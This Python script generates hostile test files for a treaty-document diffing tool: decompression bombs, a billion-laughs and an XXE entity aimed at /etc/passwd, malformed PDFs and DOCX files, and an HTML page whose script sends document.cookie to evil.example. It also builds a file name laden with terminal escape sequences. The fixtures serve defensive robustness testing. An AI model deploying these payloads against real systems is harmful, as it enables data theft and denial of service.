"""Hostile inputs: the bad files of ``tests/hostile/CATALOGUE.md``, written by one script.

Usage (from the repository root)::

    python tests/hostile/make.py              # (re)write the small files committed in tests/hostile/
    python tests/hostile/make.py --out DIR    # write every entry, small and generated, into DIR

Small files (a few KB) are committed next to this script, so a reviewer can open them. The rest are made at
test time in a temporary folder by ``generate(folder)`` and never committed: a 1 GB file (sparse: it costs no
disk), a zip bomb, a named pipe, a symbolic link loop, a folder, a file without read permission, a path through
a regular file, a path with spaces and non-ASCII characters, a draft to delete before it is opened (see
``hook.py``), ``/dev/zero``, and PDFs that would make pypdf read the same thing again and again (a 70 MB content
stream shared by 50 pages, one page named 20,000 times, a font read by 2,000 pages). ``tests/test_hostile.py``
runs the real command line on each entry.

Only the standard library and pypdf (a dependency of treatydiff) are needed, and cryptography to write the
AES-encrypted entry.
"""

from __future__ import annotations

import argparse
import io
import os
import random
import shutil
import sys
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

HERE = Path(__file__).resolve().parent
ROOT = HERE.parents[1]
CONVENTION = ROOT / "fixtures" / "convention"

#: What the XXE entry points at; the tests check that its contents never show up.
XXE_TARGET = "/etc/passwd"

_AKN_NS = "http://docs.oasis-open.org/legaldocml/ns/akn/3.0"
_ARTICLE = (
    '<article eId="art_1"><num>Article 1</num><heading>Scope</heading>'
    "<paragraph><content><p>This Convention applies to {what}.</p></content></paragraph></article>"
)


# --- small files, committed ------------------------------------------------------------------------------


def truncated_pdf() -> bytes:
    """The zero draft cut off after its first 40%: what a broken download leaves."""
    data = (CONVENTION / "zero-draft.pdf").read_bytes()
    return data[: len(data) * 2 // 5]


def _pdf(encrypt: bool, text: bool, algorithm: str = "RC4-128", user: str = "secret") -> bytes:
    from pypdf import PdfWriter
    from pypdf.generic import DecodedStreamObject, DictionaryObject, NameObject

    writer = PdfWriter()
    page = writer.add_blank_page(width=595, height=842)
    # A grey box where a scanned page would have its picture: something is drawn, but no text.
    content = b"0.5 g 72 72 451 698 re f"
    if text:
        font = DictionaryObject(
            {NameObject("/Type"): NameObject("/Font"), NameObject("/Subtype"): NameObject("/Type1"),
             NameObject("/BaseFont"): NameObject("/Times-Roman")}
        )
        page[NameObject("/Resources")] = DictionaryObject(
            {NameObject("/Font"): DictionaryObject({NameObject("/F1"): writer._add_object(font)})}
        )
        content = b"BT /F1 12 Tf 72 770 Td (Article 1) Tj 0 -20 Td (Scope) Tj ET"
    stream = DecodedStreamObject()
    stream.set_data(content)
    page[NameObject("/Contents")] = writer._add_object(stream)
    if encrypt:
        # RC4 needs no extra package, so the error is "password-protected", not "install cryptography"; writing
        # AES needs the cryptography package
        writer.encrypt(user_password=user, owner_password="owner", algorithm=algorithm)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def encrypted_pdf() -> bytes:
    """A one-page PDF with text, encrypted with a user password ("secret")."""
    return _pdf(encrypt=True, text=True)


def no_text_pdf() -> bytes:
    """A valid PDF whose page draws a filled rectangle and no text: a scan without OCR."""
    return _pdf(encrypt=False, text=False)


def password_docx() -> bytes:
    """What Word writes for "Encrypt with password": an OLE compound file (not a zip) holding the streams
    EncryptionInfo and EncryptedPackage. A minimal one: a valid header and one directory sector naming the
    streams; the encrypted payload is 1 KB of random bytes."""
    sector = 512
    header = bytearray(sector)
    header[0:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    header[0x18:0x1A] = (0x3E).to_bytes(2, "little")  # minor version
    header[0x1A:0x1C] = (3).to_bytes(2, "little")  # major version 3: 512-byte sectors
    header[0x1C:0x1E] = b"\xfe\xff"  # little-endian
    header[0x1E:0x20] = (9).to_bytes(2, "little")  # sector shift
    header[0x20:0x22] = (6).to_bytes(2, "little")  # mini sector shift
    header[0x2C:0x30] = (1).to_bytes(4, "little")  # one FAT sector
    header[0x30:0x34] = (1).to_bytes(4, "little")  # directory starts at sector 1
    header[0x38:0x3C] = (4096).to_bytes(4, "little")  # mini stream cutoff
    header[0x3C:0x40] = b"\xfe\xff\xff\xff"  # no mini FAT
    header[0x44:0x48] = b"\xfe\xff\xff\xff"  # no DIFAT sectors
    header[0x4C:0x50] = (0).to_bytes(4, "little")  # FAT in sector 0
    header[0x50:sector] = b"\xff" * (sector - 0x50)
    fat = bytearray(b"\xff\xff\xff\xff" * (sector // 4))
    fat[0:4] = b"\xfd\xff\xff\xff"  # sector 0: FAT
    fat[4:8] = b"\xfe\xff\xff\xff"  # sector 1: directory, end of chain
    fat[8:12] = b"\x03\x00\x00\x00"  # sectors 2-3: EncryptedPackage
    fat[12:16] = b"\xfe\xff\xff\xff"
    directory = bytearray()
    for name, kind, start, size in (("Root Entry", 5, 0xFFFFFFFE, 0), ("EncryptionInfo", 2, 0xFFFFFFFE, 0),
                                    ("EncryptedPackage", 2, 2, 1024)):
        entry = bytearray(128)
        encoded = (name + "\0").encode("utf-16-le")
        entry[0 : len(encoded)] = encoded
        entry[0x40:0x42] = len(encoded).to_bytes(2, "little")
        entry[0x42] = kind
        entry[0x44:0x50] = b"\xff" * 12  # no siblings, no child
        entry[0x74:0x78] = start.to_bytes(4, "little")
        entry[0x78:0x7C] = size.to_bytes(4, "little")
        directory += entry
    directory[0x4C:0x50] = (2).to_bytes(4, "little")  # the root's child: EncryptedPackage
    directory[128 + 0x44 : 128 + 0x48] = b"\xff\xff\xff\xff"
    directory[256 + 0x44 : 256 + 0x48] = (1).to_bytes(4, "little")  # left sibling: EncryptionInfo
    directory += bytes(sector - len(directory))
    payload = random.Random(3).randbytes(1024)
    return bytes(header + fat + directory) + payload


def random_docx() -> bytes:
    """4 KB of random bytes named .docx."""
    return random.Random(1).randbytes(4096)


def truncated_docx() -> bytes:
    """The zero draft's DOCX cut in half: the zip's central directory is gone."""
    data = (CONVENTION / "zero-draft.docx").read_bytes()
    return data[: len(data) // 2]


def billion_laughs_xml() -> bytes:
    """An Akoma Ntoso document whose one entity would expand to 10^9 "lol"s (3 GB) if anything expanded it."""
    entities = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, 10)
    ]
    doctype = "<!DOCTYPE akomaNtoso [\n  " + "\n  ".join(entities) + "\n]>"
    body = _ARTICLE.format(what="&lol9;")
    return (f'<?xml version="1.0"?>\n{doctype}\n<akomaNtoso xmlns="{_AKN_NS}"><act><body>{body}'
            "</body></act></akomaNtoso>\n").encode()


def xxe_xml() -> bytes:
    """An Akoma Ntoso document with an external entity that would pull in /etc/passwd."""
    body = _ARTICLE.format(what="&xxe;")
    return (f'<?xml version="1.0"?>\n<!DOCTYPE akomaNtoso [\n  <!ENTITY xxe SYSTEM "file://{XXE_TARGET}">\n]>\n'
            f'<akomaNtoso xmlns="{_AKN_NS}"><act><body>{body}</body></act></akomaNtoso>\n').encode()


def malformed_xml() -> bytes:
    """An Akoma Ntoso document whose article is never closed."""
    return (f'<?xml version="1.0"?>\n<akomaNtoso xmlns="{_AKN_NS}"><act><body>\n'
            '<article eId="art_1"><num>Article 1</num><heading>Scope</heading>\n'
            "<paragraph><content><p>This Convention applies.</p></content></paragraph>\n"
            "</body></act></akomaNtoso>\n").encode()


def script_html() -> bytes:
    """A draft as a web page with a script, an inline handler, a javascript: link and an <img onerror>."""
    return b"""<!DOCTYPE html>
<html><head><title>Draft convention</title>
<script>document.title = "SCRIPT-MARKER-HEAD"; fetch("https://evil.example/steal?c=" + document.cookie);</script>
</head>
<body onload="alert('ONLOAD-MARKER')">
<h1>Draft convention</h1>
<h2>Article 1</h2>
<h3>Scope</h3>
<p>This Convention applies to the prevention of the offences established in it.
<img src="x" onerror="alert('ONERROR-MARKER')"></p>
<script type="text/javascript">
  // SCRIPT-MARKER-BODY
  document.write("<p>Article 99 injected</p>");
</script>
<h2>Article 2</h2>
<h3>Use of terms</h3>
<p>For the purposes of this Convention, <a href="javascript:alert('HREF-MARKER')">"data"</a> means any record.</p>
<noscript>NOSCRIPT-MARKER</noscript>
</body></html>
"""


def empty_txt() -> bytes:
    return b""


def binary_bin() -> bytes:
    """2 KB of random bytes (with NULs), no known extension."""
    return b"\x7fELF\x02\x01\x01\x00" + random.Random(2).randbytes(2040)


def invalid_utf8_txt() -> bytes:
    """A draft saved in Windows-1252: curly quotes and an e acute are not UTF-8."""
    text = "Article 1\nScope\n\nThis Convention applies to \u201cdata\u201d held by a Party\u2019s r\u00e9gime.\n"
    return text.encode("cp1252")


def utf16_bom_txt() -> bytes:
    """A draft saved as "Unicode" by Notepad: UTF-16 little-endian with a byte order mark."""
    text = "Article 1\r\nScope\r\n\r\nThis Convention applies to \u201cdata\u201d \u2014 any record.\r\n"
    return text.encode("utf-16")  # with BOM


# --- DOCX files that push the reader's bounds: numbers, nesting, references --------------------------------

_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_HEAD = "".join(f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>" for text in (
    "Article 1", "Scope", "This Convention applies to the prevention of the offences established in it."))


def _zip(parts: dict[str, bytes | str]) -> bytes:
    """A zip with fixed dates, so that rewriting the committed files changes no byte."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in parts.items():
            stored = name == "mimetype"  # OpenDocument: stored, first
            info = zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0))
            archive.writestr(info, data, zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED)
    return out.getvalue()


def _docx(body: str, **parts: str) -> bytes:
    """A minimal DOCX: ``body`` in word/document.xml, and each ``NAME=content`` as word/NAME.xml (root w:NAME)."""
    files: dict[str, bytes | str] = {
        "[Content_Types].xml": '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/'
                               '2006/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>',
        "word/document.xml": f'<?xml version="1.0"?><w:document {_W}><w:body>{_HEAD}{body}</w:body></w:document>',
    }
    files.update({f"word/{name}.xml": f'<?xml version="1.0"?><w:{name} {_W}>{xml}</w:{name}>'
                  for name, xml in parts.items()})
    return _zip(files)


def _numbered(count: int, ilvl: int = 0) -> str:
    return (f'<w:p><w:pPr><w:numPr><w:ilvl w:val="{ilvl}"/><w:numId w:val="1"/></w:numPr></w:pPr>'
            f"<w:r><w:t>A numbered paragraph.</w:t></w:r></w:p>") * count


def _list(*levels: tuple[int, str, str, int | str]) -> str:
    """numbering.xml's content: list definition 1 with ``(ilvl, numFmt, lvlText, start)`` levels, and list 1."""
    lvls = "".join(f'<w:lvl w:ilvl="{ilvl}"><w:start w:val="{start}"/><w:numFmt w:val="{fmt}"/>'
                   f'<w:lvlText w:val="{text}"/></w:lvl>' for ilvl, fmt, text, start in levels)
    return f'<w:abstractNum w:abstractNumId="1">{lvls}</w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="1"/></w:num>'


def list_start_docx() -> bytes:
    """A list in letters that starts at 99999999999: its first number alone would be 3.8 billion letters."""
    return _docx(_numbered(3), numbering=_list((0, "lowerLetter", "(%1)", 99999999999)))


def list_levels_docx() -> bytes:
    """A list definition with 300 levels (Word has nine), each used once, in ascending order."""
    levels = [(ilvl, "decimal", "%1.", 1) for ilvl in range(300)]
    body = "".join(_numbered(1, ilvl) for ilvl in range(300))
    return _docx(body, numbering=_list(*levels))


def number_text_docx() -> bytes:
    """A list level whose number text (lvlText) is 100,000 characters long, and 300 paragraphs using it."""
    return _docx(_numbered(300), numbering=_list((0, "decimal", "%1" * 50_000, 1)))


def letters_docx() -> bytes:
    """A list in letters counting from 770 to 799: past 780 a number is more than 30 letters."""
    return _docx(_numbered(30), numbering=_list((0, "lowerLetter", "(%1)", 770)))


def style_chain_docx() -> bytes:
    """A character style based on a chain of 300 styles, and 300 runs that use it."""
    chain = "".join(f'<w:style w:type="character" w:styleId="s{i}"><w:basedOn w:val="s{i - 1}"/></w:style>'
                    for i in range(1, 300))
    runs = '<w:r><w:rPr><w:rStyle w:val="s299"/></w:rPr><w:t>styled </w:t></w:r>' * 300
    return _docx(f"<w:p>{runs}</w:p>", styles=chain)


def nested_tables_docx() -> bytes:
    """5,000 tables, each in the one cell of the table around it."""
    return _docx("<w:tbl><w:tr><w:tc>" * 5000 + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * 5000)


def repeated_note_docx() -> bytes:
    """2,000 references to one footnote of 100 KB: read at each reference, 200 MB of note text."""
    note = f'<w:footnote w:id="1"><w:p><w:r><w:t>{"The text of the note. " * 4600}</w:t></w:r></w:p></w:footnote>'
    calls = '<w:r><w:footnoteReference w:id="1"/></w:r>' * 2000
    return _docx(f"<w:p><w:r><w:t>Each Party shall act.</w:t></w:r>{calls}</w:p>", footnotes=note)


def self_note_docx() -> bytes:
    """A footnote whose text refers to itself (reading it recursed without end)."""
    note = ('<w:footnote w:id="1"><w:p><w:r><w:t>See note </w:t></w:r><w:r><w:footnoteReference w:id="1"/></w:r>'
            "</w:p></w:footnote>")
    return _docx('<w:p><w:r><w:t>Each Party shall act.</w:t></w:r><w:r><w:footnoteReference w:id="1"/></w:r></w:p>',
                 footnotes=note)


def symbols_docx() -> bytes:
    """Symbols (w:sym) outside Unicode, a lone surrogate, and a code of 40 hex digits."""
    syms = "".join(f'<w:r><w:sym w:font="Symbol" w:char="{code}"/></w:r>' for code in ("110000", "D800", "F" * 40))
    return _docx(f"<w:p><w:r><w:t>Each Party shall act.</w:t></w:r>{syms}</w:p>")


_RELS = ('<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
         '<Relationship Id="rId1" Target="xl/workbook.xml" '
         'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"/></Relationships>')


def workbook_docx() -> bytes:
    """An Excel workbook (.xlsx) renamed .docx."""
    return _zip({
        "[Content_Types].xml": '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/'
                               '2006/content-types"><Override PartName="/xl/workbook.xml" ContentType="application/'
                               'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>',
        "_rels/.rels": _RELS,
        "xl/workbook.xml": '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
                           '2006/main"><sheets><sheet name="Articles" sheetId="1"/></sheets></workbook>',
    })


def opendocument_docx() -> bytes:
    """An OpenDocument text (.odt) renamed .docx."""
    return _zip({
        "mimetype": "application/vnd.oasis.opendocument.text",
        "content.xml": '<?xml version="1.0"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:'
                       'xmlns:office:1.0"><office:body><office:text/></office:body></office:document-content>',
    })


# --- PDFs that push the reader's bounds: decoding, sharing, nesting, counts, coordinates ---------------------
#
# Written object by object (pypdf's writer would tidy them up), each the one attack it is named for. Their
# streams are deflated: what they decode to is many times the file. Font F1 is object 3 in every one.

_PDF_FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Times-Roman >>"
_PDF_RESOURCES = b"<< /Font << /F1 3 0 R >> >>"
#: Two lines of text, so that a file whose attack is cut short still has a text layer.
_PDF_TEXT = b"BT /F1 11 Tf 72 760 Td (Article 1) Tj 0 -15 Td (The Parties agree.) Tj ET\n"


def _raw_pdf(objects: dict[int, bytes]) -> bytes:
    """A PDF of numbered objects (1 the catalogue, 2 the page tree), with a classic cross-reference table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, objects[number])
    size = max(objects) + 1
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        out += b"%010d 00000 n \n" % offsets[number] if number in offsets else b"0000000000 65535 f \n"
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, xref)
    return bytes(out)


def _pdf_stream(data: bytes, extra: bytes = b"", *, packed: bytes | None = None,
                encoding: bytes = b"/FlateDecode") -> bytes:
    """A stream object: ``data`` deflated (or ``packed``, already encoded with ``encoding``)."""
    if packed is None:
        packed = zlib.compress(data, 9)
    return b"<< /Length %d /Filter %s %s>>\nstream\n%s\nendstream" % (len(packed), encoding, extra, packed)


def _pdf_pages(contents: list[bytes], objects: dict[int, bytes], resources: bytes = _PDF_RESOURCES,
               box: bytes = b"[0 0 595 842]") -> bytes:
    """A PDF whose pages draw ``contents`` (a /Contents value each: ``b"4 0 R"``), with ``objects`` (numbered
    from 4) and font F1 as object 3."""
    objects = {1: b"<< /Type /Catalog /Pages 2 0 R >>", 3: _PDF_FONT, **objects}
    first = max(objects) + 1
    kids = []
    for number, content in enumerate(contents, start=first):
        objects[number] = b"<< /Type /Page /Parent 2 0 R /MediaBox %s /Resources %s /Contents %s >>" % (
            box, resources, content)
        kids.append(b"%d 0 R" % number)
    objects[2] = b"<< /Type /Pages /Kids [%s] /Count %d >>" % (b" ".join(kids), len(kids))
    return _raw_pdf(objects)


def aes_pdf(user: str = "secret") -> bytes:
    """The one-page text PDF encrypted as Acrobat does by default, with AES-256, and a user password."""
    return _pdf(encrypt=True, text=True, algorithm="AES-256", user=user)


def _form(content: bytes, resources: bytes) -> bytes:
    return _pdf_stream(content, b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources %s " % resources)


def form_tree_pdf() -> bytes:
    """A page that draws a form, which draws another four times, and so on 12 levels down: 4^12 (16 million)
    forms drawn from 13 form objects, each set up again by pypdf every time it is drawn."""
    objects = {4: _pdf_stream(_PDF_TEXT)}
    for level in range(13):  # form 10 + level draws form 10 + level - 1 four times; form 10 draws text
        content = b"BT /F1 11 Tf 72 700 Td (deep) Tj ET" if level == 0 else b"/X Do " * 4
        inner = b"/XObject << /X %d 0 R >>" % (9 + level) if level else b""
        objects[10 + level] = _form(content, b"<< /Font << /F1 3 0 R >> %s >>" % inner)
    resources = b"<< /Font << /F1 3 0 R >> /XObject << /X 22 0 R >> >>"
    objects[5] = _pdf_stream(b"/X Do\n")
    return _pdf_pages([b"[4 0 R 5 0 R]"], objects, resources)


def form_cycle_pdf() -> bytes:
    """Two forms that draw each other (A draws B, B draws A twice): each is read once, and the page loads."""
    resources = b"<< /Font << /F1 3 0 R >> /XObject << /A 5 0 R /B 6 0 R >> >>"
    objects = {4: _pdf_stream(_PDF_TEXT + b"/A Do\n"), 7: resources,
               5: _form(b"BT /F1 11 Tf 72 700 Td (a) Tj ET /B Do", b"7 0 R"), 6: _form(b"/A Do /A Do", b"7 0 R")}
    return _pdf_pages([b"4 0 R"], objects, b"7 0 R")


def tiny_runs_pdf() -> bytes:
    """4,000 runs of one letter on one line, each in a text object of its own: building lines from runs was
    quadratic in the runs of a line."""
    runs = b"BT /F1 11 Tf ET\n" + b"BT 72 400 Td (a) Tj ET\n" * 4000
    return _pdf_pages([b"4 0 R"], {4: _pdf_stream(_PDF_TEXT + runs)})


def near_bars_pdf(left: int = 300) -> bytes:
    """2,500 words, and 2,500 thin bars (one path) at the height that would strike them through, all beside
    them: every bar was tried against every word (6 million tries). With ``left=70`` the bars strike them."""
    words = b"BT /F1 11 Tf ET\n" + b"BT 72 400 Td (word) Tj ET\n" * 2500
    bars = b"".join(b"%d %d.%02d 100 0.5 re\n" % (left, 403, i % 100) for i in range(2500)) + b"f\n"
    return _pdf_pages([b"4 0 R"], {4: _pdf_stream(_PDF_TEXT + words + bars)})


def nan_pdf() -> bytes:
    """Text drawn through a matrix that overflows: its position becomes infinite, then NaN (not a number)."""
    huge = b"1" + b"0" * 30 + b" 0 0 1" + b"0" * 30 + b" 0 0 cm "
    text = b"q " + huge * 12 + b"BT /F1 11 Tf 1 0 0 1 -1 1 Tm (NaN) Tj 0 0 Td (NaN) Tj ET Q\n"
    return _pdf_pages([b"4 0 R"], {4: _pdf_stream(_PDF_TEXT + text)})


def _lzw_bomb(fills: int) -> bytes:
    """LZW codes that make entries ever longer ("A", "AA", "AAA", ...) until the table is full, then clear it:
    7.4 MB of output for every 5.6 KB of codes."""
    out, buffer, bits = bytearray(), 0, 0

    def put(code: int, width: int) -> None:
        nonlocal buffer, bits
        buffer, bits = (buffer << width) | code, bits + width
        while bits >= 8:
            bits -= 8
            out.append((buffer >> bits) & 0xFF)
        buffer &= (1 << bits) - 1

    width = 9
    for _ in range(fills):
        put(256, width)  # clear: the table back to its 258 entries, codes of 9 bits
        width = 9
        put(65, width)  # "A"
        for entry in range(258, 4096):
            put(entry, width)  # the entry being made: the last output and its first byte again
            if entry + 1 in (511, 1023, 2047):  # codes grow a bit one entry early (/EarlyChange 1)
                width += 1
    put(257, width)  # end of data
    if bits:
        out.append((buffer << (8 - bits)) & 0xFF)
    return bytes(out)


def lzw_bomb_pdf() -> bytes:
    """A page whose content stream is LZW-encoded: 10.6 KB that decode to 14.1 MB."""
    return _pdf_pages([b"[4 0 R 5 0 R]"], {4: _pdf_stream(_PDF_TEXT),
                                           5: _pdf_stream(b"", packed=_lzw_bomb(2), encoding=b"/LZWDecode")})


def xref_size_pdf() -> bytes:
    """A cross-reference table that declares a billion entries: past one of pypdf's own limits."""
    data = _pdf_pages([b"4 0 R"], {4: _pdf_stream(_PDF_TEXT)})
    start = data.rindex(b"xref\n0 ") + len(b"xref\n0 ")
    return data[:start] + b"1000000000" + data[data.index(b"\n", start):]


#: Committed file name -> how it is made.
def lookalike_md() -> bytes:
    """The zero draft with look-alike letters: a heading "Article 6" whose "A" is Cyrillic (U+0410), a duty
    whose "shall" starts with a Cyrillic "s" (U+0455), and a zero-width space inside "may"."""
    text = (CONVENTION / "zero-draft.md").read_text(encoding="utf-8")
    text = text.replace("### Article 6", "### \u0410rticle 6", 1).replace(" shall ", " \u0455hall ", 1)
    return text.replace(" may ", " m\u200bay ", 1).encode("utf-8")


def retitled_md() -> bytes:
    """The zero draft with Chapter II retitled and not one article changed."""
    text = (CONVENTION / "zero-draft.md").read_text(encoding="utf-8")
    return text.replace("### CONSERVATION AND MANAGEMENT OF COASTAL WETLANDS",
                        "### VOLUNTARY GUIDANCE ONLY, NOT BINDING", 1).encode("utf-8")


def charref_html() -> bytes:
    """A draft as a web page with a character reference of 5,000 decimal digits (``&#111...1;``): more than
    Python converts to an int (4,300 digits)."""
    return (b"<!DOCTYPE html><html><body><h2>Article 1</h2><h3>Scope</h3><p>This Convention applies to &#"
            + b"1" * 5000 + b"; data.</p></body></html>\n")


def legend_word_html() -> bytes:
    """A web page whose paragraph is one word of 3 KB, "gestrichen" 300 times: the search for a legend
    ("Streichungen sind durchgestrichen") tried every ending of it from every "gestrichen" (13 s)."""
    return (b"<!DOCTYPE html><html><body><h2>Article 1</h2><h3>Scope</h3><p>" + b"gestrichen" * 300
            + b"</p></body></html>\n")


SMALL: dict[str, Callable[[], bytes]] = {
    "truncated.pdf": truncated_pdf,
    "encrypted.pdf": encrypted_pdf,
    "no-text.pdf": no_text_pdf,
    "password.docx": password_docx,
    "random.docx": random_docx,
    "truncated.docx": truncated_docx,
    "billion-laughs.xml": billion_laughs_xml,
    "xxe.xml": xxe_xml,
    "malformed.xml": malformed_xml,
    "script.html": script_html,
    "empty.txt": empty_txt,
    "binary.bin": binary_bin,
    "invalid-utf8.txt": invalid_utf8_txt,
    "utf16-bom.txt": utf16_bom_txt,
    "list-start.docx": list_start_docx,
    "list-levels.docx": list_levels_docx,
    "number-text.docx": number_text_docx,
    "letters.docx": letters_docx,
    "style-chain.docx": style_chain_docx,
    "nested-tables.docx": nested_tables_docx,
    "repeated-note.docx": repeated_note_docx,
    "self-note.docx": self_note_docx,
    "symbols.docx": symbols_docx,
    "workbook.docx": workbook_docx,
    "opendocument.docx": opendocument_docx,
    "aes.pdf": aes_pdf,
    "form-tree.pdf": form_tree_pdf,
    "form-cycle.pdf": form_cycle_pdf,
    "tiny-runs.pdf": tiny_runs_pdf,
    "near-bars.pdf": near_bars_pdf,
    "nan.pdf": nan_pdf,
    "lzw-bomb.pdf": lzw_bomb_pdf,
    "xref-size.pdf": xref_size_pdf,
    "lookalike.md": lookalike_md,
    "retitled.md": retitled_md,
    "charref.html": charref_html,
    "legend-word.html": legend_word_html,
}


# --- generated at test time -----------------------------------------------------------------------------

#: The path with spaces and non-ASCII characters (a folder and a file name).
UNICODE_PATH = "Entwürfe 2024 (Rev. 1)/zéro draft – 草案 №1.md"  # noqa: RUF001 (the en dash is the point)
#: A file name that would drive a terminal printed raw: clear the screen, write the clipboard (OSC 52), BEL,
#: a one-character CSI (U+009B), a right-to-left override.
ESCAPE_NAME = "draft\x1b[2J\x1b]52;c;SGVsbG8=\x07\u009b31m\u202e.md"


def zip_bomb(path: Path) -> None:
    """A DOCX whose document.xml is 256 MB of spaces squeezed into about 1 MB: it expands over 200-fold."""
    chunk = b" " * (1 << 20)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        with archive.open("word/document.xml", "w", force_zip64=True) as member:
            member.write(b'<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/'
                         b'wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>')
            for _ in range(256):
                member.write(chunk)
            member.write(b"</w:t></w:r></w:p></w:body></w:document>")


def lying_sizes(path: Path) -> None:
    """A DOCX whose document.xml, 30 MB of one letter, is squeezed 1,000-fold into 30 KB, and which declares 150
    times less, 200 KB, as its compressed size (in both its headers): the ratio it declares looks harmless."""
    xml = (f'<?xml version="1.0"?><w:document {_W}><w:body><w:p><w:r><w:t>'.encode() + b"a" * (30 << 20)
           + b"</w:t></w:r></w:p></w:body></w:document>")
    data = bytearray(_zip({"word/document.xml": xml}))
    info = zipfile.ZipFile(io.BytesIO(bytes(data))).getinfo("word/document.xml")
    declared = (info.file_size // 150).to_bytes(4, "little")
    central = data.rindex(b"PK\x01\x02")  # the central directory entry of the one member
    data[info.header_offset + 18 : info.header_offset + 22] = declared  # local file header
    data[central + 20 : central + 24] = declared
    path.write_bytes(bytes(data))


def joined_paragraphs(path: Path) -> None:
    """5,000 paragraphs whose marks are deleted (tracked), so that each joins the next: once counted again with
    every paragraph it joined. Random revision ids keep the compression ratio that of a real document."""
    rsid = random.Random(4)
    body = "".join(f'<w:p w:rsidR="{rsid.getrandbits(32):08X}"><w:pPr><w:rPr><w:del w:id="1" w:author="A"/></w:rPr>'
                   '</w:pPr><w:r><w:t xml:space="preserve">joined </w:t></w:r></w:p>' for _ in range(5000))
    path.write_bytes(_docx(body + "<w:p><w:r><w:t>End.</w:t></w:r></w:p>"))


def shared_bomb_pdf(path: Path) -> None:
    """50 pages that share one content stream: 70 MB of drawing operators deflated to 70 KB (it took 195 s)."""
    packer = zlib.compressobj(9)
    chunk = b"0 0 m 100 100 l S\n" * ((1 << 20) // 18)
    packed = b"".join(packer.compress(chunk) for _ in range(70)) + packer.flush()
    objects = {4: _pdf_stream(_PDF_TEXT), 5: _pdf_stream(b"", packed=packed)}
    path.write_bytes(_pdf_pages([b"[4 0 R 5 0 R]"] * 50, objects))


def many_pages_pdf(path: Path) -> None:
    """A page tree whose one /Kids array names the same page 20,000 times: 20,000 pages to pypdf, in 120 KB."""
    objects = {1: b"<< /Type /Catalog /Pages 2 0 R >>", 3: _PDF_FONT, 4: _pdf_stream(_PDF_TEXT),
               5: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources %s /Contents 4 0 R >>"
                  % _PDF_RESOURCES,
               2: b"<< /Type /Pages /Kids [%s] /Count 20000 >>" % b" ".join([b"5 0 R"] * 20_000)}
    path.write_bytes(_raw_pdf(objects))


def heavy_font_pdf(path: Path) -> None:
    """1,000 pages that share a font whose ToUnicode map decodes to 1 MB: pypdf reads the map again for every
    page, 1 GB in all."""
    group = b"100 beginbfchar\n" + b"".join(b"<%04X> <%04X>\n" % (code, code) for code in range(100)) + b"endbfchar\n"
    cmap = (b"/CIDInit /ProcSet findresource begin 12 dict begin begincmap\n1 begincodespacerange <0000> <FFFF> "
            b"endcodespacerange\n" + group * 700 + b"endcmap CMapName currentdict /CMap defineresource pop end end\n")
    objects = {3: b"<< /Type /Font /Subtype /Type1 /BaseFont /Times-Roman /ToUnicode 5 0 R >>",
               4: _pdf_stream(_PDF_TEXT), 5: _pdf_stream(cmap)}
    path.write_bytes(_pdf_pages([b"4 0 R"] * 1000, objects))


def markup_lines(path: Path) -> None:
    """A Markdown draft whose article holds nine lines of 20 KB, one per inline construct that never closes:
    ``*a ``, ``_a ``, ``~~a ``, ``<!--``, ``![a](``, ``[a](``, ``[a]{``, ``<http:``, and a table separator
    ``| | |...x``. Each pattern once scanned the rest of its line from every opener (1 to over 30 s a line)."""
    lines = ["# Draft", "", "## Article 1", "", "Scope", "", "[a]: #a", ""]
    for piece in ("*a ", "_a ", "~~a ", "<!--", "![a](", "[a](", "[a]{", "<http:"):
        lines += [piece * (20_000 // len(piece)) + "x", ""]
    lines += ["| " * 10_000 + "x", ""]
    path.write_text("\n".join(lines), encoding="utf-8")


def open_markup(path: Path) -> None:
    """A web page that ends in 900 KB of ``<a <a <a``, a tag that never closes: Python 3.11's tokenizer read the
    rest of the page again from each ``<``."""
    path.write_text("<!DOCTYPE html><html><body><h2>Article 1</h2><h3>Scope</h3><p>This Convention applies.</p>"
                    + "<a " * 300_000, encoding="utf-8")


def generate(folder: Path) -> dict[str, Path]:
    """Make the entries that are not committed in ``folder``; their catalogue names -> their paths."""
    folder.mkdir(parents=True, exist_ok=True)
    made: dict[str, Path] = {}

    def at(name: str) -> Path:
        made[name] = folder / name
        return made[name]

    with at("huge.txt").open("wb") as handle:
        handle.truncate(1 << 30)  # sparse: 1 GB that takes no disk
    zip_bomb(at("zip-bomb.docx"))
